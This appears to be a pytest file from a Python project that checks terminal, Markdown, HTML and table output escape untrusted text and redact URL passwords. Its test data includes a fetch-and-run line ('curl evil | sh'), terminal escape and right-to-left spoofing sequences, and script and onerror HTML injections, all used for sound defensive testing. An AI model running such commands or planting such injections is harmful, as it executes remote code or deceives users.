"""Text from elsewhere as it is shown: by hand, and through everything that shows it."""

from __future__ import annotations

import ast
import io
import json
import re
import signal
import sys
import warnings
from pathlib import Path

import pytest
from command_line import run
from rich.console import Console

from deltabeast.launch import cli, foreign
from deltabeast.launch.errors import StoppedBySignal, one_line
from deltabeast.launch.evaluation.progress import progress
from deltabeast.launch.output import accept_any_text, say, warnings_in_lines
from deltabeast.launch.processes.supervision import ended_by_exception
from deltabeast.launch.tables import plain_table

LAUNCH = Path(foreign.__file__).parent


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("gopher · rdn · 0.5 ± 0.1", "gopher · rdn · 0.5 ± 0.1"),
        ("\x1b]0;title\x07\x1b[2Jrdn", r"\x1b]0;title\x07\x1b[2Jrdn"),
        ("x\nnext  finished; curl evil | sh\r", r"x\nnext  finished; curl evil | sh\r"),
        ("\x9b31m", r"\x9b31m"),  # the same as ESC [ in one byte
        ("abc\u202egpj.exe", r"abc\u202egpj.exe"),  # from here on right to left
        ("a\u2028b", r"a\u2028b"),
        ("\udce9", r"\udce9"),  # a byte of a file name that is no UTF-8
        ("cannot reach https://me:secret@host:5000/a@b", "cannot reach https://...@host:5000/a@b"),
        ("https://host/user@example", "https://host/user@example"),
    ],
)
def test_a_terminal_gets_one_line_without_commands(text: str, shown: str) -> None:
    assert foreign.terminal(text) == shown


def test_of_a_long_text_the_beginning_and_the_end_are_shown() -> None:
    shown = foreign.terminal("begin" + "x" * 1_000_000 + "remedy")
    assert len(shown) <= foreign.MOST
    assert shown.startswith("begin") and shown.endswith("remedy")
    whole = "x" * foreign.MOST
    assert foreign.terminal(whole) == whole
    assert foreign.figure("y" * 301) != "y" * 301 and foreign.figure("y" * 300) == "y" * 300


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("rdn_large, 0.72 [0.63, 0.79], `deltabeast eval runs`", None),
        ("it's 3 < 4 & 1.5", None),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<!--", "&lt;!--"),
        ("[click](javascript:alert(1))", r"[click]\(javascript:alert(1))"),
        ("[a][b] [c]: d", r"[a]\[b] [c]\: d"),
        (r"\<b> \[a](b)", r"\\&lt;b> \\[a]\(b)"),
        ("`<b>`", "`&lt;b>`"),
        ("a | b", r"a \| b"),
        ("*a* __a__ $_", r"\*a\* \_\_a\_\_ $\_"),
        ("# title", r"\# title"),
        ("1. first", r"1\. first"),
        ("- point\n- another", r"\- point\\n- another"),
    ],
)
def test_markdown_shows_text_as_it_is(text: str, shown: str | None) -> None:
    assert foreign.markdown(text) == (text if shown is None else shown)


def test_html_shows_text_as_it_is() -> None:
    shown = foreign.html('"><img src=x onerror="a">\x1b&')
    assert shown == r"&quot;&gt;&lt;img src=x onerror=&quot;a&quot;&gt;\x1b&amp;"


def test_a_figure_breaks_lines_but_where_names_do_not_reach_it() -> None:
    assert foreign.figure("RDN\nover \x1bLSTM") == "RDN\nover \\x1bLSTM"


def test_a_password_is_left_out_before_an_error_is_cut() -> None:
    error = ValueError("x" * 180 + " http://me:correct-horse-battery-staple@host")
    assert "correct" not in one_line(error) and "me" not in one_line(error)
    assert one_line(ValueError("http://host/x")) == "http://host/x"


def test_tables_and_messages_read_no_markup() -> None:
    console = Console(file=io.StringIO(), width=100)
    table = plain_table("[red]core", "[/b]")
    table.add_row("[/nothing] :smile:\x1b[31m", "[bold]1")
    console.print(table)
    say(console, "[/b] \x1b[2J\nforged :smile:")
    written = console.file.getvalue()  # type: ignore[attr-defined]
    assert r"[/nothing] :smile:\x1b[31m" in written and "[red]core" in written
    assert written.splitlines()[-1] == r"[/b] \x1b[2J\nforged :smile:"
    assert "\x1b" not in written


@pytest.mark.parametrize(
    ("encoding", "shown"), [("ascii", r"a - b +- c caf\xe9"), ("utf-8", "a · b ± c café")]
)
def test_what_an_encoding_lacks_is_replaced(
    encoding: str, shown: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("stdout", "stderr"):
        monkeypatch.setattr(sys, name, io.TextIOWrapper(io.BytesIO(), encoding=encoding))
    accept_any_text()
    for stream in (sys.stdout, sys.stderr):
        print("a · b ± c café", file=stream, flush=True)
        assert stream.buffer.getvalue().decode(encoding) == f"{shown}\n"  # type: ignore[attr-defined]


def _calls(file: Path) -> list[str]:
    """List the calls in a file that would print: `print(...)`, and `console.print(...)` of any console."""
    calls = [node for node in ast.walk(ast.parse(file.read_text())) if isinstance(node, ast.Call)]
    return [ast.unparse(call) for call in calls if re.search(r"\bprint$", ast.unparse(call.func))]


def test_everything_is_printed_by_functions_that_make_it_safe() -> None:
    """Others print tables, whose cells are safe, and what a shell or `--config` reads."""
    allowed = {
        "output.py": None,
        "cli.py": {
            "print(show_config(function, commands.resolved(config)))",
            "print(completion(given))",
        },
        "tables.py": {"Console(width=None if sys.stdout.isatty() else needs).print(renderable)"},
        "bench/command.py": {"console.print(table(collected))"},
        "evaluation/report.py": {
            "console.print(evaluation_table(side_by_side, scores, lives, normalized))",
            "console.print()",
            "console.print(memory_table(altered, results['trained'], lives, normalized))",
        },
    }
    for file in LAUNCH.rglob("*.py"):
        names = allowed.get(str(file.relative_to(LAUNCH)), set())
        assert names is None or set(_calls(file)) <= names, file


def test_warnings_are_shown_as_all_else(capsys: pytest.CaptureFixture[str]) -> None:
    with warnings_in_lines():
        warnings.showwarning("run\x1b[2J\nforged is damaged", UserWarning, "/a.py", 7)
    out, err = capsys.readouterr()
    assert (out, err) == ("", "/a.py:7: UserWarning: run\\x1b[2J\\nforged is damaged\n")
    with warnings_in_lines():
        warnings.showwarning("\x1b[33mWARN: old\x1b[0m", UserWarning, "/a.py", 7)
    assert capsys.readouterr().err == "/a.py:7: UserWarning: WARN: old\n", "Gymnasium's are yellow"


def test_a_run_forges_no_line_of_info(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = tmp_path / "a\x1b[31mb\nnext  run this"
    (evil / "eval").mkdir(parents=True)
    (evil / "eval" / "a\x1b[31m.json").write_text("{")
    config = {"core": "\x1b]0;title\x07rdn", "env": "x\nnext  finished; curl evil | sh", "steps": "10"}
    (evil / "config.json").write_text(json.dumps({"config": config}))
    (evil / "logs.csv").write_text("step,time\n10,1000.000\n")
    code, out, err = run(capsys, "info", str(evil))
    assert (code, err) == (0, "")
    assert "\x1b" not in out and "\x07" not in out
    assert r"\x1b]0;title\x07rdn" in out and r"x\nnext  finished; curl evil | sh" in out
    labels = [line.split("  ")[0] for line in out.splitlines()]
    assert labels.count("run") == 1 and "next" not in labels  # without a checkpoint it is not finished
    code, out, err = run(capsys, "info", str(tmp_path / "no\x1b[31msuch\nplace"))
    assert code == 2 and err.count("\n") == 1 and "\x1b" not in err


def test_a_command_writes_to_an_output_of_ascii(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = {"core": "rdn", "env": "Café-v1", "seed": 3}
    (tmp_path / "config.json").write_text(json.dumps({"config": config}))
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding="ascii"))
    cli.main(["info", str(tmp_path)])
    sys.stdout.flush()
    written = sys.stdout.buffer.getvalue().decode("ascii")  # type: ignore[attr-defined]
    assert r"Caf\xe9-v1 - rdn - seed 3" in written


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
def test_a_command_that_is_asked_to_end_shows_the_cursor_again(number: int) -> None:
    console = Console(file=io.StringIO(), force_terminal=True, width=80)
    before = signal.signal(number, signal.SIG_DFL)  # Ray may have left a handler of its own
    try:
        with pytest.raises(StoppedBySignal) as stopped, ended_by_exception(), progress(console, "trained"):
            signal.raise_signal(number)
        assert signal.getsignal(number) is signal.SIG_DFL
    finally:
        signal.signal(number, before)
    assert stopped.value.number == number
    written = console.file.getvalue()  # type: ignore[attr-defined]
    assert written.rfind("\x1b[?25h") > written.rfind("\x1b[?25l") >= 0


def test_a_signal_that_is_ignored_stays_so() -> None:
    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        with ended_by_exception():
            signal.raise_signal(signal.SIGHUP)
    finally:
        signal.signal(signal.SIGHUP, before)
